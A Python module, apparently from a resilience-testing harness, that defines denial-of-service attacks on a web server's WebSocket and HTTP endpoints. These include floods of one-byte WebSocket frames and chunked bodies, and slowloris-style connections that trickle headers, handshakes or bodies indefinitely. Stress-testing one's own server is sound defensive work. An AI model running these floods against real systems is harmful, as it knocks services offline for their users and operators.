"""Attacks on sockets and requests: bursts of tiny frames, and requests that never end."""

from __future__ import annotations

import asyncio
import contextlib
from collections import Counter

from attacker import PAUSE, Attack, Target, connect, handshake

SOCKETS = 10  # that send bursts of frames
BURST = 37_449  # frames of one byte: 256 KiB
HELD = 1_000  # connections that never finish a request
MASK = bytes(4)
POST = b"POST /api/tables HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"


def frame(first: int, payload: bytes = b"") -> bytes:
    """Return a masked frame whose payload is short."""
    return bytes((first, 0x80 | len(payload))) + MASK + payload


async def read_for(reader: asyncio.StreamReader, seconds: float) -> None:
    """Read whatever the server sends, for so many seconds or to the end."""
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            while await reader.read(65_536):
                pass


# --- bursts ---


async def _bursts(target: Target, seen: Counter[str], opening: bytes, burst: bytes) -> None:
    """Connect, send bursts until the server closes the connection, and so on."""
    while True:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            reader, writer = await connect(target)
            try:
                writer.write(opening)
                if opening.startswith(b"GET"):
                    await reader.readuntil(b"\r\n\r\n")
                while not reader.at_eof():
                    writer.write(burst)
                    seen["bursts"] += 1
                    await read_for(reader, PAUSE)
                    await writer.drain()
            finally:
                seen["closed by the server"] += 1
                writer.close()
        await asyncio.sleep(PAUSE)


def bursts_of(one: bytes, count: int = BURST) -> Attack:
    async def attack(target: Target, seen: Counter[str]) -> None:
        work = (_bursts(target, seen, handshake(target), one * count) for _ in range(SOCKETS))
        await asyncio.gather(*work)

    return attack


async def chunks(target: Target, seen: Counter[str]) -> None:
    """Send request bodies in chunks of one byte."""
    head = POST + b"Transfer-Encoding: chunked\r\n\r\n"
    await asyncio.gather(*(_bursts(target, seen, head, b"1\r\n \r\n" * BURST) for _ in range(SOCKETS)))


# --- requests that never end ---


async def _hold(target: Target, seen: Counter[str], opening: bytes, trickle: bytes) -> None:
    while True:
        with contextlib.suppress(OSError):
            reader, writer = await connect(target)
            seen["held at the end"] += 1
            try:
                writer.write(opening)
                while not reader.at_eof():
                    await read_for(reader, PAUSE)
                    writer.write(trickle)
            finally:
                seen["held at the end"] -= 1
                seen["closed by the server"] += 1
                writer.close()
        await asyncio.sleep(PAUSE)


def unfinished(opening: bytes, trickle: bytes = b"x") -> Attack:
    async def attack(target: Target, seen: Counter[str]) -> None:
        await asyncio.gather(*(_hold(target, seen, opening, trickle) for _ in range(HELD)))

    return attack


HEADERS = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: "
UPGRADE = b"GET /api/tables/x/socket HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nSec-WebSocket-Key: "
BODY = POST + b"Content-Length: 1000\r\n\r\n{"
FLOODS: dict[str, Attack] = {
    "texts": bursts_of(frame(0x81, b"x")),
    "pings": bursts_of(frame(0x89)),
    "fragments": bursts_of(frame(0x01) + frame(0x80), BURST // 2),
    "chunks": chunks,
    "headers": unfinished(HEADERS),
    "handshakes": unfinished(UPGRADE),
    "bodies": unfinished(BODY),
    "silence": unfinished(b"", b""),
}
